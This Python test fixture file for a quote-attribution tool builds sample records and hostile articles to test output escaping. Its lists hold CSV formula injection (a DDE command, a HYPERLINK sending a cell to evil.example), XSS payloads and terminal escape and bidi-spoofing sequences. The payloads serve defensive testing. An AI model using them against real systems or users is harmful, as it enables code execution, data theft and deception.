"""Handwritten records: an ordinary one, and articles meant to harm whoever prints them."""

from __future__ import annotations

from typing import Any

from quoth.cli.record import record_of
from quoth.extractors.base import Article, Attribution, AttributionType, Figure, Finding, Quote, Report, Span, Speaker

TEXT = "Ada Byron said “we lost -5 tons”, Bo says."
NAMES = ("speakers", "attributions", "quotes", "figures")

DANGEROUS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "-5 tons",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</div></article></body><h1>mine</h1>",
    "</style><script>alert(1)</script>",
    "<!-- ]]> --> <![CDATA[",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "http://evil.example/ www.evil.example me@evil.example",
    "`code` *bold* _it_ ~~gone~~ | cell | # heading\n\n- item\n\n1. one\n\n> said\n\n***\n\n    code",
    "a\\|b \\` \\",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mC1\x9b0m",
    "a\x08\x7f\x00b",
    "\u202etxt.exe\u202c\u2066x\u2069",
    "line\rover\x85and\u2028under",
    "lone \ud800 surrogate",
]
HOSTILE = [*FORMULAS, *MARKUP, *CONTROLS]


def _spans(*pairs: tuple[int, int]) -> list[list[int]]:
    return [list(pair) for pair in pairs]


SPEAKER = {"speaker": "Ada Byron", "speaker_id": "s1"}
RECORD: dict[str, Any] = {
    "source": "a.txt",
    "id": None,
    "title": None,
    "author": None,
    "published": None,
    "agency": "dpa",
    "text": TEXT,
    "speakers": [
        {"id": "s1", "name": "Ada Byron", "role": "a general", "type": "person", "mentions": _spans((0, 9))},
    ],
    "attributions": [
        {
            "id": "a1",
            **SPEAKER,
            "role": "a general",
            "source": "Ada Byron",
            "cue": "said",
            "cue_lemma": "say",
            "content": "we lost -5 tons",
            "type": "mixed",
            "stance": "state",
            "negated": False,
            "parent": None,
            "chain": ["Ada Byron"],
            "spans": {"source": _spans((0, 9)), "cue": _spans((10, 14)), "content": _spans((16, 31))},
        },
        {
            "id": "a2",
            "speaker": "Bo",
            "speaker_id": "s2",
            "role": None,
            "source": "Bo",
            "cue": "says",
            "cue_lemma": "say",
            "content": "tons",
            "type": "direct",
            "stance": "deny",
            "negated": True,
            "parent": "a1",
            "chain": ["Ada Byron", "Bo"],
            "spans": {"source": _spans((34, 36)), "cue": _spans((37, 41)), "content": _spans((27, 31))},
        },
    ],
    "quotes": [
        {
            "id": "q1",
            "text": "we lost -5 tons",
            **SPEAKER,
            "attribution": "a1",
            "spans": {"text": _spans((16, 31))},
        }
    ],
    "figures": [
        {
            "id": "f1",
            "text": "-5 tons",
            "value": -5,
            "high": None,
            "modifier": "=",
            "change": None,
            "unit": "ton",
            "per": None,
            "counted": None,
            "kind": "mass",
            "outcome": None,
            **SPEAKER,
            "attribution": "a1",
            "stance": "state",
            "negated": False,
            "spans": {"text": _spans((24, 31)), "number": _spans((24, 26))},
        }
    ],
    "date": [{"id": "date1", "text": "tons", "day": 3, "spans": {"text": _spans((27, 31))}}],
    "errors": [
        {"code": "extractor-failed", "level": "error", "message": "Its findings are left out.", "extractor": "date"}
    ],
}
UNREAD: dict[str, Any] = {
    **dict.fromkeys(key for key in RECORD if key != "text"),
    "source": "gone.txt",
    **{key: [] for key in (*NAMES, "date")},
    "errors": [
        {"code": "missing", "level": "error", "message": "There is no file or folder 'gone.txt'.", "extractor": None}
    ],
}


def hostile_record(words: str) -> dict[str, Any]:
    """An article whose every text is these words: its name, its speakers, what they say and count."""
    words = words or "x"
    text = f"{words} said “{words}”"
    span, content = Span(0, len(words)), Span(len(words) + 7, len(text) - 1)
    speaker = Speaker(words, words, mentions=(span,))
    cue = Span(len(words) + 1, len(words) + 5)
    said = Attribution((content,), (cue,), (span,), words, AttributionType.DIRECT, speaker=speaker)
    findings: dict[str, tuple[Finding, ...]] = {
        "speakers": (speaker,),
        "attributions": (said,),
        "quotes": (Quote(content, speaker, said),),
        "figures": (
            Figure(content, content, 0.5, kind=words),
            Figure(content, content, 3, unit=words, per=words, counted=words, kind=words, attribution=said),
        ),
    }
    return record_of(Report(Article(text, words, words, words, words, words), findings), NAMES, with_text=True)
